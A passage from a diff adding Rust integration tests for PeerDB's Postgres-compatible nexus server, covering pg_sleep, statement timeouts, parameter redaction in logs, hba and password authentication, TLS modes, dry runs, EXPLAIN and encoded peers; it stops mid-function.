@@ -1,14 +1,22 @@
 use std::{
+    collections::HashMap,
     fs::{read_dir, File},
-    io::{prelude::*, BufReader, Write},
+    io::{self, prelude::*, BufReader, Write},
+    net::{TcpListener, TcpStream},
     path::Path,
     process::Command,
+    sync::{
+        atomic::{AtomicBool, Ordering},
+        Arc,
+    },
     thread,
     time::Duration,
 };
 
-use postgres::{Client, NoTls, SimpleQueryMessage};
+use arrow_array::cast::AsArray;
+use postgres::{error::SqlState, types::Type, Client, NoTls, SimpleQueryMessage};
 use similar::TextDiff;
+use tokio_postgres_rustls::MakeRustlsConnect;
 
 mod create_peers;
 
@@ -48,8 +56,14 @@ struct PeerDBServer {
 
 impl PeerDBServer {
     fn new() -> Self {
+        Self::with_env(&[])
+    }
+
+    // start the server with additional environment variables, e.g. to set options.
+    fn with_env(env: &[(&str, &str)]) -> Self {
         let mut server_start = Command::new("cargo");
         server_start.envs(std::env::vars());
+        server_start.envs(env.iter().copied());
         server_start.args(["run"]);
         tracing::info!("Starting server...");
 
@@ -234,3 +248,4894 @@ fn extended_query_protocol_no_params_bq() {
     // check that the result is non-empty.
     assert!(res > 0);
 }
+
+#[test]
+fn pg_sleep_is_handled_by_nexus() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let start = std::time::Instant::now();
+    let res = client
+        .simple_query("SELECT pg_sleep(1);")
+        .expect("pg_sleep should succeed");
+    assert!(start.elapsed() >= Duration::from_secs(1));
+
+    let rows = res
+        .iter()
+        .filter_map(|msg| match msg {
+            SimpleQueryMessage::Row(row) => Some(row.get(0).map(String::from)),
+            _ => None,
+        })
+        .collect::<Vec<_>>();
+    assert_eq!(rows, vec![None]);
+
+    // numbers in strings are coerced like postgres does, also when bound as
+    // text parameters
+    client
+        .simple_query("SELECT pg_sleep('0.1');")
+        .expect("pg_sleep of a string should succeed");
+    client
+        .simple_query("SELECT pg_sleep(-1);")
+        .expect("pg_sleep of a negative duration should succeed");
+    let stmt = client
+        .prepare("SELECT pg_sleep($1)")
+        .expect("pg_sleep with a parameter should prepare");
+    client
+        .query(&stmt, &[&"0.1"])
+        .expect("pg_sleep of a bound parameter should succeed");
+
+    for invalid in ["SELECT pg_sleep(1e30);", "SELECT pg_sleep('soon');"] {
+        let err = client
+            .simple_query(invalid)
+            .expect_err("invalid durations should fail");
+        assert_eq!(
+            err.code(),
+            Some(&SqlState::INVALID_PARAMETER_VALUE),
+            "{}",
+            invalid
+        );
+    }
+    // the connection survives
+    assert!(client.simple_query("SELECT 1;").is_ok());
+}
+
+#[test]
+fn logged_parameters_are_redacted() {
+    let server = PeerDBServer::with_env(&[("PEERDB_LOG_PARAMETERS", "true")]);
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("CREATE TEMP TABLE logged_users (id int, name text, password text);")
+        .unwrap();
+    client
+        .execute(
+            "INSERT INTO logged_users (id, name, password) VALUES ($1, $2, $3)",
+            &[&1i32, &"logged_name", &"insert_secret"],
+        )
+        .unwrap();
+    client
+        .execute(
+            "UPDATE logged_users SET password = $1 WHERE id = $2",
+            &[&"update_secret", &1i32],
+        )
+        .unwrap();
+    client
+        .query(
+            "SELECT id FROM logged_users WHERE password = $1",
+            &[&"compare_secret"],
+        )
+        .unwrap();
+
+    let log = std::fs::read_to_string("server.log").expect("unable to read server.log");
+    let logged = log
+        .lines()
+        .filter(|line| line.contains("parameters:"))
+        .collect::<Vec<_>>();
+    assert_eq!(logged.len(), 3, "each execution should log its parameters");
+    // the client binds parameters in binary, which is logged as hex
+    let hex = |value: &str| {
+        value
+            .bytes()
+            .map(|b| format!("{:02x}", b))
+            .collect::<String>()
+    };
+    assert!(logged[0].contains(&format!("$2 = '\\x{}'", hex("logged_name"))));
+    assert!(logged[0].contains("$3 = <redacted>"));
+    assert!(logged[1].contains("$1 = <redacted>"));
+    assert!(logged[1].contains("$2 = '\\x00000001'"));
+    assert!(logged[2].contains("$1 = <redacted>"));
+    for secret in ["insert_secret", "update_secret", "compare_secret"] {
+        assert!(
+            !logged
+                .iter()
+                .any(|line| line.contains(secret) || line.contains(&hex(secret))),
+            "{} should not be logged",
+            secret
+        );
+    }
+}
+
+#[test]
+fn statement_timeout_cancels_long_queries() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("SET statement_timeout = '100ms';")
+        .expect("setting statement_timeout should succeed");
+    let err = client
+        .simple_query("SELECT pg_sleep(2);")
+        .expect_err("pg_sleep should hit the statement timeout");
+    assert_eq!(err.code(), Some(&SqlState::QUERY_CANCELED));
+
+    // a zero timeout disables it again.
+    client
+        .simple_query("SET statement_timeout = 0;")
+        .expect("resetting statement_timeout should succeed");
+    let res = client.simple_query("SELECT pg_sleep(0.2);");
+    assert!(res.is_ok());
+}
+
+#[test]
+fn statement_timeout_cancels_the_query_upstream() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    let mut catalog = connect_catalog();
+    // a bare pg_sleep call is evaluated by nexus, this one runs on the catalog
+    let running = |catalog: &mut Client| {
+        let row = catalog
+            .query_one(
+                "SELECT count(*) FROM pg_stat_activity \
+                 WHERE query LIKE '%FROM pg_sleep(30)%' AND state = 'active' \
+                 AND pid <> pg_backend_pid()",
+                &[],
+            )
+            .expect("failed to query pg_stat_activity");
+        row.get::<_, i64>(0)
+    };
+
+    client
+        .simple_query("SET statement_timeout = '2s';")
+        .expect("setting statement_timeout should succeed");
+    let query = thread::spawn(move || {
+        let res = client
+            .simple_query("SELECT 1 FROM pg_sleep(30);")
+            .map(|_| ());
+        (client, res)
+    });
+    thread::sleep(Duration::from_millis(1000));
+    assert_eq!(running(&mut catalog), 1, "the catalog should run the query");
+
+    let (mut client, res) = query.join().unwrap();
+    let err = res.expect_err("the query should hit the statement timeout");
+    assert_eq!(err.code(), Some(&SqlState::QUERY_CANCELED));
+    client.simple_query("RESET statement_timeout;").unwrap();
+
+    // the catalog was asked to cancel it, it doesn't sleep on
+    thread::sleep(Duration::from_millis(500));
+    assert_eq!(running(&mut catalog), 0);
+}
+
+fn describe_rows(client: &mut Client, query: &str) -> Vec<(String, String, bool)> {
+    let res = client.simple_query(query).expect("describe should succeed");
+    res.iter()
+        .filter_map(|msg| match msg {
+            SimpleQueryMessage::Row(row) => Some((
+                row.get(0).unwrap().to_owned(),
+                row.get(1).unwrap().to_owned(),
+                row.get(2).unwrap() == "t",
+            )),
+            _ => None,
+        })
+        .collect()
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn describe_table_postgres() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let columns = describe_rows(&mut client, "DESCRIBE pg_test.test.test_table;");
+    assert_eq!(
+        columns.first(),
+        Some(&("bool".to_owned(), "boolean".to_owned(), false))
+    );
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn describe_table_bq() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_bq::create(&mut client);
+
+    let columns = describe_rows(&mut client, "DESCRIBE bq_test.users;");
+    assert!(!columns.is_empty());
+    assert!(columns.iter().any(|(name, _, _)| name == "id"));
+}
+
+#[test]
+fn large_result_streams_all_rows() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    // more rows than nexus buffers between the catalog and the client.
+    let res = client
+        .simple_query("SELECT generate_series(1, 100000);")
+        .expect("query should succeed");
+    let rows = res
+        .iter()
+        .filter(|msg| matches!(msg, SimpleQueryMessage::Row(_)))
+        .count();
+    assert_eq!(rows, 100000);
+}
+
+// the resident memory of the running nexus, in KiB
+fn server_rss_kib() -> u64 {
+    read_dir("/proc")
+        .unwrap()
+        .filter_map(|entry| entry.ok())
+        .find_map(|entry| {
+            let comm = std::fs::read_to_string(entry.path().join("comm")).ok()?;
+            if comm.trim() != "peerdb-server" {
+                return None;
+            }
+            let status = std::fs::read_to_string(entry.path().join("status")).ok()?;
+            status
+                .lines()
+                .find_map(|line| line.strip_prefix("VmRSS:"))?
+                .trim()
+                .trim_end_matches("kB")
+                .trim()
+                .parse()
+                .ok()
+        })
+        .expect("peerdb-server should be running")
+}
+
+#[test]
+fn slow_clients_hold_back_the_peer_stream() {
+    let _server = PeerDBServer::with_env(&[("PEERDB_AUTH_RULES", "trust * 127.0.0.1/32")]);
+    let mut conn = RawConnection::connect();
+    let before = server_rss_kib();
+
+    // about 400MB of rows, of which the client reads a few and then stalls
+    conn.send(
+        b'Q',
+        b"SELECT repeat('x', 1000) FROM generate_series(1, 400000);\0",
+    );
+    for _ in 0..10 {
+        let (tag, _) = conn.recv();
+        assert!(tag == b'T' || tag == b'D', "unexpected message {}", tag);
+    }
+    thread::sleep(Duration::from_secs(3));
+
+    let grown = server_rss_kib().saturating_sub(before);
+    assert!(
+        grown < 64 * 1024,
+        "nexus should not buffer the rows the client doesn't read, grew by {} KiB",
+        grown
+    );
+
+    // the client catching up gets every row
+    let mut rows = 9;
+    loop {
+        match conn.recv() {
+            (b'D', _) => rows += 1,
+            (b'C', _) => break,
+            (tag, body) => panic!("unexpected message {}: {:?}", tag, body),
+        }
+    }
+    assert_eq!(rows, 400000);
+}
+
+#[test]
+fn localhost_trust_authentication() {
+    let server = PeerDBServer::with_env(&[(
+        "PEERDB_AUTH_RULES",
+        "trust * 127.0.0.1/32,trust * ::1/128,scram",
+    )]);
+    // make sure the server is up before connecting without a password.
+    drop(server.connect_dying());
+
+    let mut client = Client::connect("host=localhost port=9900 user=anyone", NoTls)
+        .expect("localhost connections should not need a password");
+    let res = client.simple_query("SELECT 1;");
+    assert!(res.is_ok());
+}
+
+#[test]
+fn hba_file_allows_and_rejects_by_address() {
+    let hba_file = std::env::temp_dir().join("peerdb_test_hba.conf");
+    std::fs::write(
+        &hba_file,
+        "# TYPE DATABASE USER ADDRESS METHOD\n\
+         host all peerdb all scram-sha-256\n\
+         host all blocked 127.0.0.1/32 reject\n\
+         host all anyone 127.0.0.1/32 trust\n\
+         host all anyone 10.0.0.0/8 md5\n",
+    )
+    .expect("unable to write the hba file");
+    let server = PeerDBServer::with_env(&[("PEERDB_HBA_FILE", hba_file.to_str().unwrap())]);
+    drop(server.connect_dying());
+
+    let mut client = Client::connect("host=127.0.0.1 port=9900 user=anyone", NoTls)
+        .expect("the trust rule for 127.0.0.1/32 should apply");
+    assert!(client.simple_query("SELECT 1;").is_ok());
+
+    let err = Client::connect("host=127.0.0.1 port=9900 user=blocked", NoTls)
+        .expect_err("the reject rule for 127.0.0.1/32 should apply");
+    assert_eq!(
+        err.code(),
+        Some(&SqlState::INVALID_AUTHORIZATION_SPECIFICATION)
+    );
+
+    // no rule matches, so the connection is rejected
+    let err = Client::connect(
+        "host=127.0.0.1 port=9900 user=nobody password=peerdb",
+        NoTls,
+    )
+    .expect_err("connections matching no rule should be rejected");
+    assert_eq!(
+        err.code(),
+        Some(&SqlState::INVALID_AUTHORIZATION_SPECIFICATION)
+    );
+}
+
+#[test]
+fn catalog_users_log_in_with_their_password() {
+    let server = PeerDBServer::with_env(&[("PEERDB_AUTH_RULES", "md5 md5_user,scram")]);
+    let mut client = server.connect_dying();
+
+    for user in ["scram_user", "md5_user"] {
+        fetch_rows(
+            &mut client,
+            &format!("SELECT peerdb.set_password('{}', 'it''s secret');", user),
+        );
+        let mut user_client = Client::connect(
+            &format!(
+                "host=localhost port=9900 user={} password='it\\'s secret'",
+                user
+            ),
+            NoTls,
+        )
+        .expect("the user should log in with its password");
+        assert_select_one(&mut user_client);
+
+        // the configured password is only for users not in the catalog
+        let err = Client::connect(
+            &format!("host=localhost port=9900 user={} password=peerdb", user),
+            NoTls,
+        )
+        .expect_err("a wrong password should be refused");
+        assert_eq!(err.code(), Some(&SqlState::INVALID_PASSWORD));
+
+        fetch_rows(
+            &mut client,
+            &format!("SELECT peerdb.drop_user('{}');", user),
+        );
+        Client::connect(
+            &format!("host=localhost port=9900 user={} password=peerdb", user),
+            NoTls,
+        )
+        .expect("a dropped user logs in with the configured password again");
+    }
+
+    let err = client
+        .simple_query("SELECT peerdb.drop_user('scram_user');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+    let mut non_admin = Client::connect(
+        "host=localhost port=9900 user=anyone password=peerdb",
+        NoTls,
+    )
+    .expect("users not in the catalog log in with the configured password");
+    let err = non_admin
+        .simple_query("SELECT peerdb.set_password('anyone', 'mine');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INSUFFICIENT_PRIVILEGE));
+}
+
+#[test]
+fn require_catalog_users_refuses_unknown_users() {
+    let server = PeerDBServer::with_env(&[
+        ("PEERDB_REQUIRE_CATALOG_USERS", "true"),
+        ("PEERDB_AUTH_RULES", "trust peerdb,scram"),
+    ]);
+    let mut client = server.connect_dying();
+
+    let err = Client::connect(
+        "host=localhost port=9900 user=anyone password=peerdb",
+        NoTls,
+    )
+    .expect_err("users not in the catalog should be refused");
+    assert_eq!(err.code(), Some(&SqlState::INVALID_PASSWORD));
+
+    fetch_rows(&mut client, "SELECT peerdb.set_password('anyone', 'mine');");
+    let mut user_client =
+        Client::connect("host=localhost port=9900 user=anyone password=mine", NoTls)
+            .expect("the user should log in with its password");
+    assert_select_one(&mut user_client);
+    fetch_rows(&mut client, "SELECT peerdb.drop_user('anyone');");
+}
+
+#[test]
+fn show_all_lists_core_settings() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("SET statement_timeout = '5s';")
+        .expect("setting statement_timeout should succeed");
+    let res = client
+        .simple_query("SHOW ALL;")
+        .expect("SHOW ALL should succeed");
+    let settings = res
+        .iter()
+        .filter_map(|msg| match msg {
+            SimpleQueryMessage::Row(row) => Some((row.get(0)?.to_owned(), row.get(1)?.to_owned())),
+            _ => None,
+        })
+        .collect::<Vec<_>>();
+
+    for name in ["server_version", "client_encoding", "DateStyle", "TimeZone"] {
+        assert!(
+            settings.iter().any(|(n, _)| n == name),
+            "missing setting {}",
+            name
+        );
+    }
+    assert!(settings
+        .iter()
+        .any(|(n, v)| n == "statement_timeout" && v == "5s"));
+}
+
+fn connect_catalog() -> Client {
+    dotenvy::dotenv().ok();
+    let env = |name: &str| std::env::var(name).unwrap_or_else(|_| panic!("{} not set", name));
+    let conn_str = format!(
+        "host={} port={} user={} password={} dbname={}",
+        env("PEERDB_CATALOG_HOST"),
+        env("PEERDB_CATALOG_PORT"),
+        env("PEERDB_CATALOG_USER"),
+        env("PEERDB_CATALOG_PASSWORD"),
+        env("PEERDB_CATALOG_DATABASE"),
+    );
+    Client::connect(&conn_str, NoTls).expect("failed to connect to catalog")
+}
+
+fn migrate_catalog(args: &[&str]) {
+    let status = Command::new("cargo")
+        .envs(std::env::vars())
+        .args(["run", "--", "--migrations-only"])
+        .args(args)
+        .status()
+        .expect("failed to run peerdb-server");
+    assert!(status.success());
+}
+
+fn qrep_runs_has_parent_mirror(catalog: &mut Client) -> bool {
+    catalog
+        .query_one(
+            "SELECT EXISTS (SELECT 1 FROM information_schema.columns
+            WHERE table_schema = 'peerdb_stats' AND table_name = 'qrep_runs'
+            AND column_name = 'parent_mirror_name')",
+            &[],
+        )
+        .expect("failed to query catalog")
+        .get(0)
+}
+
+#[test]
+#[ignore = "migrates the shared catalog down and up, run in isolation"]
+fn migration_rollback_and_reapply() {
+    let mut catalog = connect_catalog();
+
+    migrate_catalog(&["--migration-target-version", "36"]);
+    assert!(!qrep_runs_has_parent_mirror(&mut catalog));
+
+    migrate_catalog(&[]);
+    assert!(qrep_runs_has_parent_mirror(&mut catalog));
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn postgres_peer_fails_over_to_next_host() {
+    dotenvy::dotenv().ok();
+    let env = |name: &str| std::env::var(name).unwrap_or_else(|_| panic!("{} not set", name));
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    // nothing listens on port 1, so the "primary" is down and the catalog,
+    // which accepts writes, is picked up from hosts.
+    let create_stmt = format!(
+        "CREATE PEER IF NOT EXISTS pg_failover FROM POSTGRES WITH
+        (
+            host = '{}',
+            port = '1',
+            hosts = '{}:{}',
+            target_session_attrs = 'read-write',
+            user = '{}',
+            password = '{}',
+            database = '{}'
+        );",
+        env("PEERDB_CATALOG_HOST"),
+        env("PEERDB_CATALOG_HOST"),
+        env("PEERDB_CATALOG_PORT"),
+        env("PEERDB_CATALOG_USER"),
+        env("PEERDB_CATALOG_PASSWORD"),
+        env("PEERDB_CATALOG_DATABASE"),
+    );
+    client
+        .simple_query(&create_stmt)
+        .expect("creating the peer should succeed");
+
+    let res = client.simple_query("SELECT 1 FROM pg_failover.pg_catalog.pg_class LIMIT 1;");
+    assert!(res.is_ok());
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn call_postgres_procedure_returns_out_parameters() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    // pg_test points at the catalog database
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(
+            "CREATE OR REPLACE PROCEDURE public.add_one(x int, OUT y int)
+            LANGUAGE plpgsql AS $$ BEGIN y := x + 1; END $$;",
+        )
+        .expect("failed to create procedure");
+
+    let res = client
+        .simple_query("CALL pg_test.public.add_one(41, NULL);")
+        .expect("call should succeed");
+    let out: Vec<&str> = res
+        .iter()
+        .filter_map(|msg| match msg {
+            SimpleQueryMessage::Row(row) => row.get(0),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(out, vec!["42"]);
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn bq_query_records_bytes_processed() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_bq::create(&mut client);
+
+    client
+        .simple_query("SELECT * FROM bq_test.users LIMIT 1;")
+        .expect("query should succeed");
+
+    let mut catalog = connect_catalog();
+    let bytes_processed: Option<i64> = catalog
+        .query_one(
+            "SELECT bytes_processed FROM peer_connections
+            WHERE peer_name = 'bq_test' ORDER BY id DESC LIMIT 1",
+            &[],
+        )
+        .expect("failed to query peer_connections")
+        .get(0);
+    assert!(bytes_processed.is_some());
+}
+
+fn dry_run_row(client: &mut Client, query: &str) -> (String, String, Option<i64>) {
+    client
+        .simple_query("SET peerdb.dry_run = on;")
+        .expect("enabling dry run should succeed");
+    let res = client.simple_query(query).expect("dry run should succeed");
+    res.iter()
+        .find_map(|msg| match msg {
+            SimpleQueryMessage::Row(row) => Some((
+                row.get(0).unwrap().to_owned(),
+                row.get(1).unwrap().to_owned(),
+                row.get(2).map(|bytes| bytes.parse().unwrap()),
+            )),
+            _ => None,
+        })
+        .expect("dry run should return a row")
+}
+
+#[test]
+fn dry_run_plans_catalog_queries() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let (peer, plan, bytes) = dry_run_row(&mut client, "SELECT 1;");
+    assert_eq!(peer, "catalog");
+    assert!(plan.contains("Result"), "unexpected plan: {}", plan);
+    assert_eq!(bytes, None);
+
+    client
+        .simple_query("SET peerdb.dry_run = off;")
+        .expect("disabling dry run should succeed");
+    let res = client.simple_query("SELECT 1;").unwrap();
+    let value = res.iter().find_map(|msg| match msg {
+        SimpleQueryMessage::Row(row) => row.get(0).map(str::to_owned),
+        _ => None,
+    });
+    assert_eq!(value.as_deref(), Some("1"));
+}
+
+#[test]
+fn dry_run_keeps_transaction_control() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("SET peerdb.dry_run = on;")
+        .expect("enabling dry run should succeed");
+    // the rows of a dry run, transaction control runs and returns none
+    let mut rows = |query: &str| {
+        client
+            .simple_query(query)
+            .unwrap_or_else(|err| panic!("{} failed: {}", query, err))
+            .into_iter()
+            .filter(|msg| matches!(msg, SimpleQueryMessage::Row(_)))
+            .count()
+    };
+
+    assert_eq!(rows("BEGIN;"), 0);
+    assert_eq!(rows("SELECT 1;"), 1);
+    assert_eq!(rows("SAVEPOINT before_insert;"), 0);
+    assert_eq!(rows("ROLLBACK TO SAVEPOINT before_insert;"), 0);
+    assert_eq!(rows("RELEASE SAVEPOINT before_insert;"), 0);
+    assert_eq!(rows("COMMIT;"), 0);
+    // outside a block the peer only warns
+    assert_eq!(rows("COMMIT;"), 0);
+    assert_eq!(rows("START TRANSACTION;"), 0);
+    assert_eq!(rows("ROLLBACK;"), 0);
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn dry_run_postgres() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let (peer, plan, _) = dry_run_row(&mut client, "SELECT * FROM pg_test.test.test_table;");
+    assert_eq!(peer, "pg_test");
+    assert!(plan.contains("Seq Scan"), "unexpected plan: {}", plan);
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn dry_run_bq() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_bq::create(&mut client);
+
+    let (peer, _, bytes) = dry_run_row(&mut client, "SELECT * FROM bq_test.users;");
+    assert_eq!(peer, "bq_test");
+    assert!(bytes.is_some());
+}
+
+fn explain_lines(client: &mut Client, query: &str) -> Vec<String> {
+    fetch_rows(client, query)
+        .into_iter()
+        .map(|row| row[0].clone().unwrap_or_default())
+        .collect()
+}
+
+#[test]
+fn explain_returns_the_catalog_plan() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let lines = explain_lines(
+        &mut client,
+        "EXPLAIN SELECT i FROM generate_series(1, 10) AS i;",
+    );
+    assert!(
+        lines.iter().any(|line| line.contains("Function Scan")),
+        "{:?}",
+        lines
+    );
+
+    let rows = client
+        .query(
+            "EXPLAIN VERBOSE SELECT i FROM generate_series(1, 10) AS i",
+            &[],
+        )
+        .expect("explain should succeed");
+    assert_eq!(rows[0].columns()[0].name(), "QUERY PLAN");
+    assert!(
+        rows.iter()
+            .any(|row| row.get::<_, String>(0).trim_start().starts_with("Output: ")),
+        "verbose plans list the output of each node"
+    );
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn explain_is_forwarded_to_postgres_peers() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let lines = explain_lines(
+        &mut client,
+        "EXPLAIN SELECT * FROM pg_test.test.test_table;",
+    );
+    assert!(
+        lines.iter().any(|line| line.contains("Seq Scan")),
+        "{:?}",
+        lines
+    );
+
+    // the peer analyzes the statement itself
+    let lines = explain_lines(
+        &mut client,
+        "EXPLAIN ANALYZE SELECT * FROM pg_test.test.test_table;",
+    );
+    assert!(
+        lines.iter().any(|line| line.contains("actual time=")),
+        "{:?}",
+        lines
+    );
+    assert!(
+        lines
+            .iter()
+            .any(|line| line.starts_with("Execution Time: ")),
+        "{:?}",
+        lines
+    );
+    assert!(
+        !lines.iter().any(|line| line.starts_with("Nexus (peer")),
+        "{:?}",
+        lines
+    );
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn explain_bq_returns_the_dry_run() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_bq::create(&mut client);
+
+    let lines = explain_lines(&mut client, "EXPLAIN SELECT * FROM bq_test.users;");
+    assert!(
+        lines
+            .iter()
+            .any(|line| line.starts_with("Estimated Bytes Processed: ")),
+        "{:?}",
+        lines
+    );
+}
+
+const TLS_CERT: &str = "tests/assets/tls.crt";
+const TLS_KEY: &str = "tests/assets/tls.key";
+
+// a connector trusting only the self-signed certificate the tests serve
+fn tls_connector() -> MakeRustlsConnect {
+    let mut roots = rustls::RootCertStore::empty();
+    let mut reader = BufReader::new(File::open(TLS_CERT).expect("missing test certificate"));
+    for cert in rustls_pemfile::certs(&mut reader) {
+        roots.add(cert.unwrap()).unwrap();
+    }
+    let config = rustls::ClientConfig::builder_with_provider(Arc::new(
+        rustls::crypto::ring::default_provider(),
+    ))
+    .with_safe_default_protocol_versions()
+    .unwrap()
+    .with_root_certificates(roots)
+    .with_no_client_auth();
+    MakeRustlsConnect::new(config)
+}
+
+fn connect_with_sslmode(sslmode: &str) -> Result<Client, postgres::Error> {
+    let connection_string = format!(
+        "host=localhost port=9900 password=peerdb user=peerdb sslmode={}",
+        sslmode
+    );
+    Client::connect(&connection_string, tls_connector())
+}
+
+fn assert_select_one(client: &mut Client) {
+    let row = client.query_one("SELECT 1", &[]).unwrap();
+    assert_eq!(row.get::<_, i32>(0), 1);
+}
+
+#[test]
+fn sslmode_against_tls_disabled_server() {
+    let server = PeerDBServer::new();
+    server.connect_dying();
+
+    assert_select_one(&mut connect_with_sslmode("disable").unwrap());
+    // the server answers the SSLRequest with `N` and the client carries on
+    // in plaintext
+    assert_select_one(&mut connect_with_sslmode("prefer").unwrap());
+    assert!(connect_with_sslmode("require").is_err());
+}
+
+#[test]
+fn sslmode_against_tls_enabled_server() {
+    let server =
+        PeerDBServer::with_env(&[("PEERDB_TLS_CERT", TLS_CERT), ("PEERDB_TLS_KEY", TLS_KEY)]);
+    server.connect_dying();
+
+    assert_select_one(&mut connect_with_sslmode("disable").unwrap());
+    assert_select_one(&mut connect_with_sslmode("prefer").unwrap());
+    assert_select_one(&mut connect_with_sslmode("require").unwrap());
+}
+
+#[test]
+fn hba_file_matches_tls_state() {
+    let hba_file = std::env::temp_dir().join("peerdb_test_hba_ssl.conf");
+    std::fs::write(
+        &hba_file,
+        "hostnossl all tls_only all reject\n\
+         hostssl all tls_only all trust\n\
+         host all peerdb all scram-sha-256\n",
+    )
+    .expect("unable to write the hba file");
+    let server = PeerDBServer::with_env(&[
+        ("PEERDB_TLS_CERT", TLS_CERT),
+        ("PEERDB_TLS_KEY", TLS_KEY),
+        ("PEERDB_HBA_FILE", hba_file.to_str().unwrap()),
+    ]);
+    drop(server.connect_dying());
+
+    let connect = |sslmode: &str| {
+        Client::connect(
+            &format!("host=localhost port=9900 user=tls_only sslmode={}", sslmode),
+            tls_connector(),
+        )
+    };
+    // the hostnossl rule is skipped for TLS connections
+    assert_select_one(&mut connect("require").expect("the hostssl rule should apply"));
+    let err = connect("disable").expect_err("the hostnossl rule should apply");
+    assert_eq!(
+        err.code(),
+        Some(&SqlState::INVALID_AUTHORIZATION_SPECIFICATION)
+    );
+}
+
+#[test]
+fn unknown_default_peer_errors_for_unqualified_tables() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("SET peerdb.default_peer = 'no_such_peer';")
+        .expect("setting the default peer should succeed");
+    let err = client
+        .simple_query("SELECT * FROM some_table;")
+        .expect_err("unqualified query should fail");
+    assert!(err.to_string().contains("default peer"), "{}", err);
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+
+    // queries without tables and introspection queries stay on the catalog
+    assert!(client.simple_query("SELECT 1;").is_ok());
+    assert!(client
+        .simple_query("SELECT count(*) FROM pg_catalog.pg_class;")
+        .is_ok());
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn default_peer_routes_unqualified_queries() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    client
+        .simple_query("SET peerdb.default_peer = pg_test;")
+        .expect("setting the default peer should succeed");
+    let defaulted = client
+        .simple_query("SELECT * FROM test.test_table;")
+        .expect("defaulted query should succeed");
+    let qualified = client
+        .simple_query("SELECT * FROM pg_test.test.test_table;")
+        .expect("qualified query should succeed");
+    assert_eq!(defaulted.len(), qualified.len());
+}
+
+// creates a database with the given encoding next to the catalog holding
+// `words(word text)` with the given rows, and a postgres peer to it.
+fn create_encoded_pg_peer(client: &mut Client, peer: &str, encoding: &str, insert: &str) {
+    dotenvy::dotenv().ok();
+    let env = |name: &str| std::env::var(name).unwrap_or_else(|_| panic!("{} not set", name));
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(&format!(
+            "DROP DATABASE IF EXISTS {peer};
+            CREATE DATABASE {peer} ENCODING '{encoding}' LC_COLLATE 'C' LC_CTYPE 'C'
+            TEMPLATE template0;"
+        ))
+        .expect("failed to create database");
+
+    let mut db = Client::connect(
+        &format!(
+            "host={} port={} user={} password={} dbname={}",
+            env("PEERDB_CATALOG_HOST"),
+            env("PEERDB_CATALOG_PORT"),
+            env("PEERDB_CATALOG_USER"),
+            env("PEERDB_CATALOG_PASSWORD"),
+            peer,
+        ),
+        NoTls,
+    )
+    .expect("failed to connect to database");
+    db.batch_execute(&format!("CREATE TABLE words(word text); {}", insert))
+        .expect("failed to seed database");
+
+    client
+        .simple_query(&format!(
+            "CREATE PEER IF NOT EXISTS {} FROM POSTGRES WITH
+            (host = '{}', port = '{}', user = '{}', password = '{}', database = '{}');",
+            peer,
+            env("PEERDB_CATALOG_HOST"),
+            env("PEERDB_CATALOG_PORT"),
+            env("PEERDB_CATALOG_USER"),
+            env("PEERDB_CATALOG_PASSWORD"),
+            peer,
+        ))
+        .expect("failed to create peer");
+}
+
+fn first_word(client: &mut Client, peer: &str) -> String {
+    let res = client
+        .simple_query(&format!("SELECT word FROM {}.public.words;", peer))
+        .expect("query should succeed");
+    res.iter()
+        .find_map(|msg| match msg {
+            SimpleQueryMessage::Row(row) => row.get(0).map(str::to_owned),
+            _ => None,
+        })
+        .expect("expected a row")
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn latin1_peer_text_is_sent_as_utf8() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_encoded_pg_peer(
+        &mut client,
+        "pg_latin1",
+        "LATIN1",
+        "INSERT INTO words VALUES ('café');",
+    );
+
+    assert_eq!(first_word(&mut client, "pg_latin1"), "café");
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn invalid_utf8_from_peer_is_replaced() {
